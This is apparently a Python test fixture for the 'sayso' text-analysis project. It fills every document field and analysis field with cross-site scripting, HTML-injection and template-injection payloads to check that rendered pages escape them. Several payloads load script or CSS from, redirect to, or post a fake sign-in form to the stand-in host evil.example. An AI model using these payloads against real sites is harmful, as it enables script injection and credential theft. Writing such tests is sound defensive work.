"""What a document may hold that no page may obey; and a project with it in every field."""

from __future__ import annotations

from pathlib import Path

from sayso import Project
from sayso.model import Actor, Analysis, Attribution, Claim, Document, Label, Naming, Passage

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) "',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style>@import url(//evil.example/x.css)</style></svg>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title></textarea></script><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{% for x in () %}",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<b hx-get='//evil.example' hx-trigger='load'>x</b>",
    "\u202eevil\u202c \u2066x",
    "&lt;script&gt; &#60;b&#62;",
)


def hostile_document(payload: str) -> Document:
    """A document with this in every field that an input may fill."""
    text = f"{payload} arms {payload}.\n\n{payload} said that {payload} is bad."
    return Document(
        id=f"id {payload}", text=text, title=f"title {payload}", publisher=f"outlet {payload}", author=f"by {payload}",
        published="2024-02-19", url=payload, lang="en",
        passages=(
            Passage(start=0, end=len(text) // 2, voice="article"),
            Passage(start=len(text) // 2, end=len(text), voice="comment", speaker=payload),
        ),
    )  # fmt: skip


def _analysis(document: Document) -> Analysis:
    """Claims between actors that are called so, on the word of those that are called so."""
    payload = document.publisher.removeprefix("outlet ") if document.publisher else ""
    subject, object_, cited = f"subject {payload}", f"object {payload}", f"cited {payload}"
    first = document.text.index("\n")
    names = (document.publisher or "", subject, object_, cited)
    actors = {name: Actor(type="state" if name == subject else payload, names=(name, payload)) for name in names}
    claims = [
        Claim(
            holder=holder, subject=subject, relation=relation, object=object_, polarity=polarity, modality=modality,
            when="2024-02" if relation == "supports" else payload, where=payload, evidence=((0, first),),
            confidence=0.5, why=f"frame {payload}",
        )
        for holder, relation, polarity, modality in (
            ((document.publisher or "", cited), "supports", "affirmed", "actual"),
            ((cited,), "supports", "denied", "actual"),
            ((document.publisher or "",), payload, "affirmed", "possible"),
        )
    ]  # fmt: skip
    return Analysis(
        document=document,
        actors=actors,
        attributions=(
            Attribution(id="a1", holder=cited, source=((0, len(payload)),), cue=((0, 3),), content=((0, first),)),
            Attribution(id="a2", unresolved=payload, standing="anonymous", source=((0, 2),), content=((0, first),)),
        ),
        claims=tuple(claims),
        labels=(Label(holder=(cited,), actor=object_, label=payload, tone="negative", evidence=((0, len(payload)),)),),
        mentions=(Naming(0, len(payload), "name", (subject,), document.publisher),),
    )


def _reader():
    return _analysis


def make_hostile_project(folder: Path, payloads: tuple[str, ...] = PAYLOADS) -> Path:
    """A project with a document for each; its own name is hostile, too."""
    import json

    import msgspec

    folder.mkdir(parents=True, exist_ok=True)
    rows = [msgspec.to_builtins(hostile_document(payload)) for payload in payloads]
    kept = ("id", "text", "title", "publisher", "author", "published", "url", "lang", "passages")
    lines = (json.dumps({name: row[name] for name in kept}) for row in rows)
    (folder / "in.jsonl").write_text("\n".join(lines), encoding="utf-8")
    with Project.init(folder / "project") as project:
        project.add([folder / "in.jsonl"])
        project.run(make=_reader, processes=1)
        settings = project.folder / "sayso.toml"
        text = settings.read_text(encoding="utf-8")
        settings.write_text(text.replace('name = ""', "name = '<script>alert(1)</script>'"), encoding="utf-8")
        return project.folder
